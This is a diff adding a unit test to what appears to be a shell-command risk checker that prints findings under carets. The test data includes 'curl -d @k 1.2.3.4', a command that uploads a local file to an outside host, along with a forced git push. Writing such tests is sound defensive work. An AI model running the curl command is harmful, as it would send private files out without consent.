@@ -53,6 +53,16 @@ def test_reasons_stand_below_where_nothing_fits_behind_the_carets() -> None:
     ]
 
 
+def test_reasons_stand_below_where_that_takes_fewer_rows() -> None:
+    long = "sends what it reads to a host that nobody has named before, " * 2
+    lines = drawn(data("curl -d @k 1.2.3.4", findings=(Finding("a", long, "high", (0, 18)),)), 50)
+    assert lines[:3] == [
+        "  curl -d @k 1.2.3.4",
+        "  ^^^^^^^^^^^^^^^^^^",
+        "    sends what it reads to a host that nobody",
+    ]
+
+
 def test_a_command_of_one_piece_has_no_number() -> None:
     push = data("git push -f", findings=(Finding("git.force", "Rewrites", "high", (9, 11)),))
     assert drawn(push) == ["  git push -f", "           ^^  rewrites  git.force"]
